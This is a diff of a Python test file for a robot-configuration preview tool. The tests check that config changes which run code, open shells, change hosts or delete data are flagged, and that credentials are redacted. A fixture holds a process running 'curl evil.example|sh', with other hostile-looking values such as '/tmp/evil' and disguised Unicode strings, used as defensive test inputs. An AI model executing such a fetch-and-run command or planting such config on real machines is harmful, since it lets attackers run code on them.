@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import copy
 import json
+import random
 from typing import TYPE_CHECKING, Any
 
 import pytest
@@ -11,47 +13,371 @@ from hypothesis import strategies as st
 
 from tests.pace import is_linear
 from tests.tools.configs import SECRETS, configs, stored, swapped
-from viam_mcp.app import connect
-from viam_mcp.tools import TOOLS, Environment, ToolError
-from viam_mcp.tools.previews._diff import config_changes
-from viam_mcp.tools.previews._wording import MOST_CHARACTERS, MOST_LINES, bounded
+from viam_mcp.tools import ToolError
+from viam_mcp.tools.previews._model import HEADLINE_WIDTH, Risk, gravest
+from viam_mcp.tools.previews.configs._diff import UNCHANGED_CONFIG, compared, config_diff, diff
 
 if TYPE_CHECKING:
-    from viam_mcp.sandbox import Sandbox
+    from collections.abc import Callable
 
-SAME = ["Configuration: stays the same."]
+    from viam_mcp.tools.previews.configs._diff import ConfigDiff
+    from viam_mcp.tools.redaction._configs import Stored
 
-_KEYS = st.sampled_from(["name", "url", "width", "a\u200b", "x"])
+SAME = [UNCHANGED_CONFIG]
+
+_KEYS = st.sampled_from(["name", "url", "width", "a\u200b", "x", "components", "fragment_mods"])
 _VALUES = st.recursive(
     st.one_of(st.none(), st.booleans(), st.integers(-3, 3), st.text(max_size=5)),
     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_KEYS, inner, max_size=3),
     max_leaves=8,
 )
 _CONFIGS = st.dictionaries(_KEYS, _VALUES, max_size=4)
-_SECRET_KEYS = st.sampled_from(["secret", "WMS_TOKEN", "keys", "passphrase"])
 _WITH_SECRETS = configs(st.sampled_from(SECRETS), plain=False)
 
 EVIL = {"processes": [{"id": "x", "name": "/bin/sh", "args": ["-c", "curl evil.example|sh"]}]}
-MODULE = {"modules": [{"name": "evil", "type": "registry", "module_id": "evil:mod", "version": "1"}]}
 
 
-OWNER = {"auth": {"handlers": [{"type": "api-key", "config": {"keys": [], "note": "curl evil.example|sh"}}]}}
+def changed(old: dict[str, Any], sent: dict[str, Any]) -> ConfigDiff:
+    return diff(stored(old), sent, "config")
 
 
-def changes(old: dict[str, Any], sent: dict[str, Any]) -> list[str]:
-    return config_changes(stored(old), sent, "config")
+def lines(old: dict[str, Any], sent: dict[str, Any]) -> list[str]:
+    return [line.strip() for line in changed(old, sent).lines]
+
+
+def text(old: dict[str, Any], sent: dict[str, Any]) -> str:
+    return "\n".join(changed(old, sent).lines)
+
+
+def risks(old: dict[str, Any], sent: dict[str, Any]) -> set[Risk]:
+    return {one.risk for one in changed(old, sent).consequences}
+
+
+def arm(name: str, **attributes: Any) -> dict[str, Any]:
+    return {"name": name, "api": "rdk:component:arm", "model": "acme:arms:six", "attributes": attributes}
+
+
+# What is shown.
 
 
 @given(_CONFIGS, _CONFIGS)
 def test_only_equal_configurations_stay_the_same(old: dict[str, Any], new: dict[str, Any]) -> None:
     equal = json.dumps(old, sort_keys=True) == json.dumps(new, sort_keys=True)
-    assert (changes(old, new) == SAME) == equal
+    assert (lines(old, new) == SAME) == equal
+
+
+@given(_CONFIGS, _CONFIGS, _CONFIGS)
+def test_two_edits_of_a_configuration_that_differ_are_shown_differently(
+    old: dict[str, Any], one: dict[str, Any], other: dict[str, Any]
+) -> None:
+    equal = json.dumps(one, sort_keys=True) == json.dumps(other, sort_keys=True)
+    assert (changed(old, one).lines == changed(old, other).lines) == equal
+
+
+@st.composite
+def _edits(draw: st.DrawFn) -> tuple[dict[str, Any], dict[str, Any], str]:
+    """Draw a machine's configuration, one edit of it, and a word that the edit puts somewhere in it."""
+    names = draw(st.lists(st.sampled_from(["arm", "cam", "base", "cam-1", "cam-2", "cam-3", "x y"]), unique=True))
+    items = [arm(name, host=f"10.0.0.{number}", pins=[1, 2, {"deep": [number]}]) for number, name in enumerate(names)]
+    section = draw(st.sampled_from(["components", "services", "modules", "remotes", "jobs", "other"]))
+    old: dict[str, Any] = {section: items, "network": {"bind_address": ":8080"}, "note": ["a", "b"]}
+    new = copy.deepcopy(old)
+    word = draw(st.text("qwz", min_size=4, max_size=8))
+    places = [*_places(new)]
+    holder, key = draw(st.sampled_from(places))
+    if isinstance(holder, list) and draw(st.booleans()):
+        holder.insert(key, draw(st.sampled_from([word, {"name": word}, {"other": word}, [word]])))
+    elif isinstance(holder, dict) and draw(st.booleans()):
+        holder[word] = draw(st.sampled_from([None, {}, [], 0, ""]))
+    else:
+        holder[key] = draw(st.sampled_from([word, {"name": word}, {"other": word}, [word]]))
+    return old, new, word
+
+
+def _places(value: Any) -> Any:
+    """Yield every place in a JSON value: what holds it, and its key or index there."""
+    if isinstance(value, dict | list):
+        for key, item in [*(value.items() if isinstance(value, dict) else enumerate(value))]:
+            yield value, key
+            yield from _places(item)
+
+
+@given(_edits())
+def test_whatever_a_single_edit_puts_anywhere_is_in_the_lines(edit: tuple[dict[str, Any], dict[str, Any], str]) -> None:
+    old, new, word = edit
+    assert word in text(old, new)
+
+
+@given(_edits())
+def test_whatever_a_single_edit_takes_away_is_named(edit: tuple[dict[str, Any], dict[str, Any], str]) -> None:
+    old, new, word = edit
+    assert text(new, old) != UNCHANGED_CONFIG
+    assert word in text(new, old) or "removed" in text(new, old) or "→" in text(new, old)
+
+
+def fleet(number: int = 12) -> dict[str, Any]:
+    return {
+        "components": [arm(f"arm-{index}", host=f"10.0.4.{index}", speed=1.0) for index in range(number)],
+        "modules": [
+            {"name": f"m{index}", "type": "local", "executable_path": f"/opt/m{index}", "version": "1.0"}
+            for index in range(number)
+        ],
+        "services": [{"name": "nav", "api": "rdk:service:navigation"}],
+    }
+
+
+def edited(old: dict[str, Any], *edits: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
+    new = copy.deepcopy(old)
+    for edit in edits:
+        edit(new)
+    return new
+
+
+def with_speed(config: dict[str, Any]) -> None:
+    for component in config["components"][:11]:
+        component["attributes"]["speed"] = 1.5
+
+
+def test_the_same_edit_of_many_items_is_one_line_with_all_their_names() -> None:
+    old = fleet()
+    assert "attributes.speed 1 → 1.5 in components arm-0 … arm-10 (11)" in lines(old, edited(old, with_speed))
+    some = edited(old, lambda new: [new["components"][place]["attributes"].update(speed=3) for place in (1, 5, 7)])
+    assert "attributes.speed 1 → 3 in components arm-1, arm-5, arm-7 (3)" in lines(old, some)
+
+
+def test_a_host_behind_other_edits_is_shown_and_in_the_headline() -> None:
+    old = fleet()
+    new = edited(old, with_speed, lambda new: new["components"][3]["attributes"].update(host="10.9.9.9"))
+    assert 'attributes.host "10.0.4.3" → "10.9.9.9" in components arm-3' in lines(old, new)
+    assert "hosts: components arm-3" in gravest(changed(old, new).consequences)
+
+
+def test_a_shell_behind_other_edits_is_shown_and_in_the_headline() -> None:
+    old = fleet()
+    for shell in (
+        {"name": "sh", "api": "rdk:service:shell"},
+        {"name": "sh", "type": "shell", "model": "rdk:builtin:builtin"},
+        {"Name": "sh", "API": "RDK:service:Shell"},
+    ):
+        new = edited(old, with_speed, lambda new, item=shell: new["services"].append(item))  # type: ignore[misc]
+        assert "REMOTE SHELL: services" in gravest(changed(old, new).consequences)
+        assert lines(old, new).index("REMOTE SHELL:") < lines(old, new).index("Other changes:")
+
+
+def test_a_path_behind_bumps_of_versions_is_shown_and_in_the_headline() -> None:
+    old = fleet(30)
+    new = edited(
+        old,
+        lambda new: [module.update(version="1.1") for module in new["modules"][:4]],
+        lambda new: new["modules"][20].update(executable_path="/tmp/evil"),
+    )
+    assert 'version "1.0" → "1.1" in modules m0 … m3 (4)' in lines(old, new)
+    assert 'executable_path "/opt/m20" → "/tmp/evil" in modules m20' in lines(old, new)
+    assert gravest(changed(old, new).consequences) == "RUNS CODE: modules m0 … m3, m20"
+
+
+@pytest.mark.parametrize("length", [160, 400, 5_000])
+def test_the_end_of_a_long_value_is_shown(length: int) -> None:
+    before, after = "x" * length + "safe", "x" * length + "evil"
+    new = text({"components": [arm("a", note=before)]}, {"components": [arm("a", note=after)]})
+    assert f'"{before}"' in new
+    assert f'now (as before up to character {length:,}) "{after}"' in new
+
+
+def test_two_items_among_many_that_swap_a_value_are_both_shown() -> None:
+    old = fleet(700)
+
+    def swap(new: dict[str, Any]) -> None:
+        one, other = new["components"][10]["attributes"], new["components"][600]["attributes"]
+        one["host"], other["host"] = other["host"], one["host"]
+
+    assert lines(old, edited(old, swap))[1:] == [
+        "HOSTS and addresses:",
+        'attributes.host "10.0.4.10" → "10.0.4.600" in components arm-10',
+        'attributes.host "10.0.4.600" → "10.0.4.10" in components arm-600',
+    ]
+
+
+def test_items_that_move_are_said_to_move_and_nothing_else() -> None:
+    old = fleet(6)
+    new = edited(old, lambda new: new["components"].insert(0, new["components"].pop(4)))
+    assert lines(old, new)[1:] == ["Other changes:", "components: moved arm-4 (5 → 1)"]
+
+
+def test_an_item_that_is_renamed_is_said_to_be_unless_its_name_is_what_it_is() -> None:
+    old = fleet(3)
+    new = edited(old, lambda new: new["components"][1].update(name="gripper"))
+    assert "components: renamed arm-1 to gripper" in lines(old, new)
+    one, other = ({"fragments": [{"id": name, "version": "stable"}]} for name in ("one", "other"))
+    assert 'fragments: new other {"version": "stable"}' in lines(one, other)
+    assert "fragments: removed one" in lines(one, other)
+
+
+def test_a_new_item_is_shown_whole_and_where_it_is_put() -> None:
+    old = fleet(3)
+    new = edited(old, lambda new: new["components"].insert(1, arm("new", host="10.1.1.1", blob="y" * 300)))
+    shown = lines(old, new)
+    assert "components: new new, at place 2 of 4:" in shown
+    assert {'api: "rdk:component:arm"', 'host: "10.1.1.1"', f'blob: "{"y" * 300}"'} <= {*shown}
+
+
+def test_several_of_one_name_are_told_apart() -> None:
+    old = {"components": [arm("arm", host="a"), arm("arm", host="b")]}
+    new = edited(old, lambda new: new["components"][1]["attributes"].update(host="c"))
+    assert 'attributes.host "b" → "c" in components arm #2' in lines(old, new)
+    swapped = edited(old, lambda new: new["components"].reverse())
+    assert lines(old, swapped)[1:] == ["Other changes:", "components: moved arm #2 (2 → 1)"]
+
+
+def test_items_without_a_name_among_named_ones_hide_nothing_of_those() -> None:
+    old = fleet(5)
+    new = edited(old, with_speed, lambda new: new["components"].append({"model": "x"}))
+    assert 'components: new [5] {"model": "x"}' in lines(old, new)
+    assert "attributes.speed 1 → 1.5 in components arm-0 … arm-4 (5)" in lines(old, new)
+
+
+def test_a_long_list_of_plain_values_is_shown_by_what_differs() -> None:
+    numbers = [*range(9_000)]
+    new = [*numbers[:500], "x", *numbers[500:8_990], 1, 2]
+    assert lines({"a": numbers}, {"a": new})[1:] == [
+        "Other changes:",
+        'a[500]: new ["x"]',
+        "a[8990…8999] [8990, 8991, 8992, 8993, 8994, 8995, 8996, 8997, 8998, 8999] → [1, 2]",
+    ]
+
+
+def test_a_section_that_is_emptied_is_not_one_that_goes() -> None:
+    old = {"components": [arm("a")], "network": {"bind_address": ":80"}}
+    assert "components stays, empty" in lines(old, {**old, "components": []})
+    assert "network stays, empty" in lines(old, {**old, "network": {}})
+    for gone in ("components", "network"):
+        left = {key: value for key, value in old.items() if key != gone}
+        assert "stays" not in text(old, left)
+        assert f"{gone}: removed" in text(old, left)
+
+
+def test_true_is_not_one_and_a_null_is_not_nothing() -> None:
+    assert "x true → 1" in lines({"x": True}, {"x": 1})
+    assert "x: removed, was null" in lines({"x": None}, {})
+    assert lines({"x": 1}, {"x": 1.0}) == SAME
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("run", "run\u202e\u200b\x7f\U000e0064\ud800"),
+        ("arm", "\u0430rm"),
+        ("caf\u00e9", "cafe\u0301"),
+        ("10.0.0.9", "10.0.0.\uff19"),
+        ("a", "a\u0301\u0301\u0301\u0301"),
+        ("a b", "a\u00a0b"),
+    ],
+    ids=["invisible", "other script", "other normal form", "wide digit", "stacked marks", "other space"],
+)
+def test_a_change_that_cannot_be_seen_is_escaped(old: str, new: str) -> None:
+    shown = next(line for line in lines({"command": old}, {"command": new}) if "→" in line)
+    assert "\\u" in shown or "\\x" in shown
+
+
+def test_text_that_looks_like_more_lines_stays_on_its_line() -> None:
+    assert len(lines({}, {"note": "x\nREMOVED:\u2028+ added\x85"})) == len(lines({}, {"note": "x"}))
+    key = lines({}, {'a": 1\nREMOVED:': 1})
+    assert len(key) == len(lines({}, {"a": 1}))
+
+
+def test_a_value_whose_look_is_that_of_a_path_or_a_name_is_in_quotes() -> None:
+    assert '"a.b" 1 → 2' in lines({"a.b": 1}, {"a.b": 2})
+    old = {"components": [arm("x in y", speed=1)]}
+    assert 'attributes.speed 1 → 2 in components "x in y"' in lines(old, {"components": [arm("x in y", speed=2)]})
+
+
+# What is grave.
+
+
+@pytest.mark.parametrize(
+    ("sent", "risk"),
+    [
+        (EVIL, Risk.CODE),
+        ({"modules": [{"name": "a", "module_id": "b:c"}]}, Risk.CODE),
+        ({"packages": [{"name": "a", "package": "b/c"}]}, Risk.CODE),
+        ({"jobs": [{"name": "a", "schedule": "* * * * *"}]}, Risk.CODE),
+        ({"agent": {"version_control": {"viam-server": "url:x"}}}, Risk.CODE),
+        ({"components": [arm("a", command="/evil")]}, Risk.CODE),
+        ({"fragment_mods": [{"fragment_id": "f", "mods": [{"$set": {"modules.a.version": "2"}}]}]}, Risk.CODE),
+        ({"Modules": [{"name": "a"}]}, Risk.CODE),
+        ({"proce\u017f\u017fes": [{"name": "/bin/sh"}]}, Risk.CODE),
+        ({"auth": {"handlers": [{"type": "api-key"}]}}, Risk.ACCESS),
+        ({"network": {"bind_address": "0.0.0.0:8080"}}, Risk.ACCESS),
+        ({"remotes": [{"name": "a", "auth": {"entity": "b"}}]}, Risk.ACCESS),
+        ({"services": [{"name": "a", "type": "shell"}]}, Risk.SHELL),
+        (
+            {"fragment_mods": [{"fragment_id": "f", "mods": [{"$set": {"services.a.api": "rdk:service:shell"}}]}]},
+            Risk.SHELL,
+        ),
+        ({"remotes": [{"name": "a", "address": "b"}]}, Risk.HOSTS),
+        ({"components": [arm("a", rtspAddress="cam.local")]}, Risk.HOSTS),
+        ({"components": [arm("a", target="tcp://10.0.0.1")]}, Risk.HOSTS),
+        ({"components": [arm("a", inner={"list": [{"x": "10.0.0.1"}]})]}, Risk.HOSTS),
+        (
+            {"fragment_mods": [{"fragment_id": "f", "mods": [{"$set": {"components.a.attributes.host": "b"}}]}]},
+            Risk.HOSTS,
+        ),
+    ],
+    ids=json.dumps,
+)
+def test_what_is_new_and_grave_is_known_as_what_it_is(sent: dict[str, Any], risk: Risk) -> None:
+    assert risk in risks({}, sent)
+    assert risk in risks({}, {**{f"a{number}": number for number in range(50)}, **sent})
+    assert lines({}, sent)[1] != "Other changes:"
+
+
+def test_plain_attributes_are_not_grave() -> None:
+    old = fleet(2)
+    new = edited(old, with_speed, lambda new: new["components"][0].update(depends_on=["arm-1"]))
+    assert risks(old, new) == set()
+    assert risks({}, {"components": [arm("a", serial_port="/dev/ttyUSB0", width_mm=3)]}) == set()
+
+
+def test_what_goes_is_a_deletion_and_most_of_it_is_said_to_go() -> None:
+    old = fleet(10)
+    assert risks(old, edited(old, lambda new: new["components"].pop())) == {Risk.DELETIONS}
+    assert "modules: removed m9" in text(old, edited(old, lambda new: new["modules"].pop()))
+    most: list[dict[str, Any]] = [
+        {},
+        {"components": []},
+        {"services": old["services"]},
+        {**old, "components": [{}], "modules": []},
+        {**old, "components": "x", "modules": [1]},
+    ]
+    for new in most:
+        assert Risk.EMPTIES in risks(old, new), new
+        assert "removes MOST OF IT" in gravest(changed(old, new).consequences)
+    assert Risk.EMPTIES not in risks(old, {**old, "modules": []})
+    one_is_large = {"components": [arm(f"arm-{number}") for number in range(10)] + [arm("map", points=[*range(900)])]}
+    assert Risk.EMPTIES in risks(one_is_large, {"components": one_is_large["components"][-1:]})
+
+
+@given(st.sets(st.sampled_from(["modules", "auth", "services", "remotes", "components"])), st.integers(1, 300))
+def test_a_headline_names_every_kind_of_consequence_in_order_however_many_there_are(
+    sections: set[str], number: int
+) -> None:
+    items = [{"name": f"{'n' * 30}{index}", "api": "rdk:service:shell", "host": "x"} for index in range(number)]
+    old = {"x": [*range(3)], "components": [{"name": "gone", "a": [*range(9)]}] if "components" in sections else []}
+    new: dict[str, Any] = dict.fromkeys(sections - {"components"}, items)
+    consequences = changed(old, new).consequences
+    said = gravest(consequences)
+    assert len(said) <= HEADLINE_WIDTH
+    places = [said.index(one.label) for one in consequences]
+    assert places == sorted(places)
+
+
+# Credentials.
 
 
 @given(_WITH_SECRETS)
 def test_what_was_read_is_the_same_when_it_is_sent_back(config: dict[str, Any]) -> None:
     before = stored(config)
-    assert config_changes(before, before.shown, "config") == SAME
+    assert diff(before, before.shown, "config").lines == SAME
 
 
 @given(_WITH_SECRETS, st.data())
@@ -60,53 +386,66 @@ def test_no_line_depends_on_a_credential_that_is_stored(config: dict[str, Any], 
     assert one.shown == other.shown
     sent = data.draw(st.just(config) | configs(st.sampled_from([*SECRETS, "[redacted]"]), plain=True))
 
-    def lines(before: Any) -> list[str] | str:
+    def seen(before: Stored) -> object:
         try:
-            return config_changes(before, sent, "config")
+            found = diff(before, sent, "config")
         except ToolError as error:
             return str(error)
+        return [*found.lines], [*found.consequences]
 
-    assert lines(one) == lines(other)
+    assert seen(one) == seen(other)
 
 
 def test_a_password_that_is_guessed_right_reads_as_one_that_is_guessed_wrong() -> None:
     def door(password: str) -> dict[str, Any]:
         return {"components": [{"name": "door", "attributes": {"pin_code": "x", "password": password}}]}
 
-    right, wrong = (changes(door("0427"), door(guess)) for guess in ("0427", "0428"))
+    right, wrong = (lines(door("0427"), door(guess)) for guess in ("0427", "0428"))
     assert right == wrong
-    assert "Credentials set, the same as before or not: 'password'." in right
+    assert 'attributes.password "[redacted]" → "[redacted: a new value]" in components door' in right
+
+
+_SECRET_KEYS = st.sampled_from(["secret", "WMS_TOKEN", "keys", "passphrase"])
 
 
 @given(st.dictionaries(_SECRET_KEYS, st.sampled_from(SECRETS)), st.dictionaries(_SECRET_KEYS, st.sampled_from(SECRETS)))
 def test_each_credential_that_is_set_or_removed_is_named_and_none_is_shown(
     old: dict[str, str], new: dict[str, str]
 ) -> None:
-    text = "\n".join(changes(old, new))
-    assert "s3cr3t" not in text
+    shown = lines(old, new)
+    assert "s3cr3t" not in "\n".join(shown)
     for key in {*old, *new}:
-        (line,) = (line for line in text.splitlines() if line.startswith("Credentials") and f"'{key}'" in line)
-        assert line.startswith("Credentials set" if key in new else "Credentials removed")
+        (line,) = (line for line in shown if line.startswith((f"{key} ", f"{key}:")))
+        assert ("a new value" in line) == (key in new)
+        assert ("removed" in line) == (key not in new)
 
 
-def test_a_credential_that_moves_with_its_item_is_not_called_set() -> None:
+def test_a_credential_that_moves_with_its_item_is_not_called_new() -> None:
     before = stored({"modules": [{"name": "a", "env": {"TOKEN": "one"}}, {"name": "b", "env": {"TOKEN": "two"}}]})
-    lines = config_changes(before, {"modules": [*reversed(before.shown["modules"])]}, "config")
-    assert not any(line.startswith("Credentials") for line in lines)
-    labels = {sign: [line[1:] for line in lines if line[0] == sign and "[redacted" in line] for sign in "-+"}
-    assert labels["-"] == labels["+"] != []
+    found = diff(before, {"modules": [*reversed(before.shown["modules"])]}, "config")
+    assert [line.strip() for line in found.lines[1:]] == ["Other changes:", "modules: moved b (2 → 1)"]
 
 
-def test_a_password_in_a_url_is_hidden_and_that_it_is_set_is_seen() -> None:
-    lines = changes({"camera": "rtsp://u:one@host/1"}, {"camera": "rtsp://u:two@host/1"})
-    assert '-  "camera": "rtsp://[redacted 1]@host/1"' in lines
-    assert '+  "camera": "rtsp://[redacted 2]@host/1"' in lines
-    assert "Credentials set, the same as before or not: 'camera'." in lines
+def test_a_credential_that_goes_to_another_item_is_followed() -> None:
+    before = stored(
+        {"processes": [{"name": "a", "args": ["--token", "one"]}, {"name": "b", "args": ["--token", "two"]}]}
+    )
+    shown = copy.deepcopy(before.shown)
+    shown["processes"].append(
+        {"name": "c", **{key: value for key, value in shown["processes"][0].items() if key == "x"}}
+    )
+    found = diff(before, shown, "config")
+    assert "processes: new c" in "\n".join(found.lines)
+    assert "one" not in "\n".join(found.lines)
+
+
+def test_a_password_in_a_url_is_hidden_and_that_it_is_new_is_seen() -> None:
+    shown = lines({"camera": "rtsp://u:one@host/1"}, {"camera": "rtsp://u:two@host/1"})
+    assert 'camera "rtsp://[redacted]@host/1" → "rtsp://[redacted: a new value]@host/1"' in shown
 
 
 def test_a_stored_credential_that_invisible_characters_disguise_is_hidden_as_it_is_to_readers() -> None:
-    lines = changes({"args": ["\u200b--token", "hush", "run --to\u200bken hush"]}, {})
-    assert "hush" not in "\n".join(lines)
+    assert "hush" not in text({"args": ["\u200b--token", "hush", "run --to\u200bken hush"]}, {})
 
 
 @pytest.mark.parametrize(
@@ -117,98 +456,19 @@ def test_a_stored_credential_that_invisible_characters_disguise_is_hidden_as_it_
 )  # fmt: skip
 def test_a_credential_that_a_caller_sends_and_that_may_be_code_is_shown(value: str) -> None:
     for config in ({"args": ["-c", value]}, {"args": ["--token", value]}, {"env": {"TOKEN": value}}):
-        assert "evil" in "\n".join(changes({}, config))
+        assert "evil" in text({}, config)
 
 
 @pytest.mark.parametrize("value", ["h4sh-Pa55/w0rd=", "hash!@#%^*", 4711])
 def test_a_credential_that_is_a_word_is_hidden(value: Any) -> None:
-    assert '+    "TOKEN": "[redacted 1]"' in changes({}, {"env": {"TOKEN": value}})
+    assert 'env: new {"TOKEN": "[redacted: a new value]"}' in lines({}, {"env": {"TOKEN": value}})
 
 
 @pytest.mark.parametrize("end", ["\n", "\r\n", "\\n"])
 def test_a_private_key_is_hidden(end: str) -> None:
     begin, middle, last = "-----BEGIN RSA PRIVATE KEY-----", "MIIE" * 16, "MIIE=="
     key = end.join([begin, middle, middle, last, "-----END RSA PRIVATE KEY-----", ""])
-    assert "MIIE" not in "\n".join(changes({}, {"file": key, "tls_private_key": key}))
-
-
-def test_what_runs_code_comes_before_whatever_else_changes() -> None:
-    junk = {f"a{number}": {f"k{line}": line for line in range(5)} for number in range(12)}
-    lines = changes({}, {**junk, **EVIL, **MODULE, "components": [{"name": "c"}]})
-    assert lines[0].endswith('in "modules", "processes", "components", "a0", "a1", "a10", "a11", "a2" and 7 more.')
-    assert [line for line in lines if "curl evil.example|sh" in line]
-    assert [line for line in lines if "evil:mod" in line]
-    assert lines.index('@@ "modules" @@') < lines.index('@@ "processes" @@') < lines.index('@@ "components" @@')
-    assert 'more lines of "a10"' in lines[-1]
-
-
-@pytest.mark.parametrize(
-    "junk",
-    [
-        {f"a{number}_token": "x" * 40 for number in range(100)},
-        {"\u200b" * 30 + str(number): number for number in range(100)},
-        {"a": "x" * 10_000, "components": [{"name": "y" * 10_000}]},
-        {"a": [*range(50_000)]},
-        {"fragments": [*range(1_000)]},
-        {"modules": [{"name": f"m{number}"} for number in range(100)]},
-        {"components": [{"name": f"c{number}"} for number in range(100)]},
-    ],
-    ids=["credentials", "invisible", "long", "large", "fragments", "modules", "components"],
-)
-@pytest.mark.parametrize("vital", [EVIL, OWNER], ids=["runs", "gives access"])
-def test_nothing_crowds_out_what_runs_or_gives_access(junk: dict[str, Any], vital: dict[str, Any]) -> None:
-    lines = bounded(["Update robot part: " + "x" * 300, *changes({}, {**junk, **vital})])
-    assert f'"{next(iter(vital))}"' in lines[1]
-    assert len(lines[1]) < 500
-    assert [line for line in lines if "curl evil.example|sh" in line]
-
-
-@given(
-    st.lists(st.text(alphabet="abc ", max_size=1_200), max_size=4),
-    st.dictionaries(st.sampled_from(["modules", "auth", "a", "b"]), st.lists(st.text(max_size=600), max_size=40)),
-    st.sampled_from([{}, {f"{number}{'x' * 40}_token": "y" for number in range(20)}]),
-)
-def test_whatever_stands_beside_a_change_either_the_question_holds_all_its_lines_or_it_is_refused(
-    beside: list[str], sent: dict[str, Any], credentials: dict[str, Any]
-) -> None:
-    try:
-        lines = config_changes(stored({}), {**sent, **credentials}, "config", beside)
-    except ToolError as error:
-        assert "nothing was done" in str(error)
-    else:
-        assert bounded([*beside, *lines], ["x" * 500])[-len(lines) :] == tuple(lines)
-
-
-@pytest.mark.parametrize("name", ["\u6539" * 200, "x" + "\U000e0064" * 199], ids=["long", "escaped"])
-async def test_nothing_that_a_question_says_besides_cuts_what_a_configuration_runs(sandbox: Sandbox, name: str) -> None:
-    part = sandbox.store.value("SELECT id FROM parts")
-    fragment, org = sandbox.store.all("SELECT id, org_id FROM fragments")[0]
-    process = {"name": "/bin/" + "x" * 390}
-    config = {"processes": [process] * 6, "x": {f"{number}{'x' * 40}_token": "y" for number in range(20)}}
-    variables = [{"fragment_id": fragment, "fragment_variables": config}]
-    async with connect(sandbox.url, api_key_id=sandbox.api_key_id, api_key=sandbox.api_key) as app:
-        for number in range(12):
-            await app.create_fragment(org, "o" * 60 + str(number), {"fragments": [fragment]})
-        for tool, arguments in (
-            ("update_robot_part", {"robot_part_id": part, "name": name, "robot_config": config}),
-            ("update_fragment", {"fragment_id": fragment, "name": name, "config": config, "visibility": "public"}),
-            ("update_organization", {"org_id": org, "name": name, "default_fragments": variables}),
-        ):
-            call = TOOLS[tool].model_validate(arguments)
-            try:
-                lines = (await call.preview(app, Environment())).lines
-            except ToolError as error:
-                assert "more than a person can be shown" in str(error)
-            else:
-                assert any(line.startswith("Configuration: NOT ALL that runs code") for line in lines)
-                assert "SHA-256 of the whole" in lines[-1]
-
-
-def test_no_member_of_a_process_crowds_out_what_it_runs() -> None:
-    (process,) = EVIL["processes"]
-    lines = changes({}, {"processes": [{**{f"a{number}": number for number in range(100)}, **process}]})
-    assert [line for line in lines if "curl evil.example|sh" in line]
-    assert lines[0].startswith('Configuration: NOT ALL that runs code or gives access is shown ("processes"); ')
+    assert "MIIE" not in text({}, {"file": key, "tls_private_key": key})
 
 
 @pytest.mark.parametrize(
@@ -223,70 +483,28 @@ def test_no_member_of_a_process_crowds_out_what_it_runs() -> None:
     ids=json.dumps,
 )
 def test_no_name_that_sounds_like_a_credential_hides_what_runs(change: dict[str, Any]) -> None:
-    lines = changes({}, {"fragment_mods": [{"mods": [{"$set": change}]}]})
-    assert "\n".join(lines).count("/evil") == json.dumps(change).count("/evil")
+    shown = text({}, {"fragment_mods": [{"mods": [{"$set": change}]}]})
+    assert shown.count("/evil") == json.dumps(change).count("/evil")
 
 
 def test_what_tells_what_runs_shows_no_credential_in_it() -> None:
     process = {"args": ["--token", "hush"], "env": {"TOKEN": "hush"}, "command": "run --password hush"}
     for config in ({"processes": [process]}, {"$set": {"processes.token": process, "modules.m.env.TOKEN": "hush"}}):
-        assert "hush" not in "\n".join(changes({}, config))
-        assert "hush" not in "\n".join(changes(config, {}))
+        assert "hush" not in text({}, config)
+        assert "hush" not in text(config, {})
         shown = stored(config)
-        assert config_changes(shown, shown.shown, "config") == SAME
-
-
-@pytest.mark.parametrize("key", ["Processes", "PROCESSES", "proce\u017f\u017fes"])
-def test_sections_are_known_as_the_service_reads_their_keys(key: str) -> None:
-    lines = changes({}, {"a": [*range(100)], key: EVIL["processes"]})
-    assert [line for line in lines if "curl evil.example|sh" in line]
-
-
-@pytest.mark.parametrize("section", ["modules", "auth", "network", "cloud", "components"])
-def test_the_first_line_says_whether_all_that_runs_code_is_shown(section: str) -> None:
-    said = "NOT ALL that runs code or gives access is shown"
-    for config in (
-        {section: [{"name": "x" * 1_000}]},
-        {section: ["\U000e0064" * 60 + "evil"]},
-        {section: [*range(100)]},
-    ):
-        assert (said in changes({}, config)[0]) == (section != "components")
-    assert said not in changes({}, {section: [{"name": "x"}]})[0]
-
-
-def test_two_changes_that_differ_only_in_what_is_cut_have_different_lines() -> None:
-    one, other = (changes({"note": "x" * 1_000 + end}, {}) for end in "ab")
-    assert one[:-1] == other[:-1]
-    assert one[-1] != other[-1]
-
-
-def test_what_is_too_long_to_compare_is_told_and_shows_what_differs_all_the_same() -> None:
-    numbers = [*range(9_000)]
-    lines = changes({"a": numbers, **EVIL}, {"a": ["new", *numbers[1:-1], "end"]})
-    assert lines[0].endswith('in "processes", "a"; too many to compare line by line in "a".')
-    assert {"-    0,", "-    8999", '+    "new",', '+    "end"'} <= {*lines}
-    assert '-      "name": "/bin/sh",' in lines
-    swap = changes({"a": [*range(5_000)]}, {"a": [*reversed(range(5_000))]})
-    assert "too many to compare" in swap[0]
-    moved = changes({"modules": [*range(5_000)]}, {"modules": [1, 0, *range(2, 4_998), 4_999, 4_998]})
-    assert moved[0].startswith('Configuration: NOT ALL that runs code or gives access is shown ("modules"); ')
-
-
-def test_of_a_great_many_sections_the_last_are_told_together() -> None:
-    sections = {f"a{number:03}": number for number in range(900)}
-    lines = changes(sections, {**sections, **EVIL, "a899": "new"})
-    assert lines[0] == 'Configuration: 1 line removed, 11 lines added, in "processes", "a899".'
-    lines = changes({}, {**sections, **EVIL})
-    assert lines[0].endswith('in "processes", "a000", "a001", "a002", "a003", "a004", "a005", "a006" and 893 more.')
-    assert is_linear(lambda new: changes({}, new), lambda size: {f"a{n}": n for n in range(size)}, 20_000)
+        assert diff(shown, shown.shown, "config").lines == SAME
 
 
 def test_keys_that_look_the_same_are_no_way_around_what_is_hidden() -> None:
     old = {"a": ["--token", "hush"], "a\u200b": ["x"], "b": "x", "b\u200b": "--token hush"}
     for config in (old, dict(reversed(old.items()))):
-        assert "hush" not in "\n".join(changes(config, {}))
+        assert "hush" not in text(config, {})
         with pytest.raises(ToolError, match="nothing was done"):
-            changes(config, {"a": ["--verbose", "[redacted]"]})
+            changed(config, {"a": ["--verbose", "[redacted]"]})
+
+
+# How long it takes.
 
 
 @pytest.mark.parametrize(
@@ -294,38 +512,30 @@ def test_keys_that_look_the_same_are_no_way_around_what_is_hidden() -> None:
     [lambda block: block[::-1], lambda block: block[1:] + block[:1], lambda block: [f"x{line}" for line in block]],
     ids=["reversed", "moved", "different"],
 )
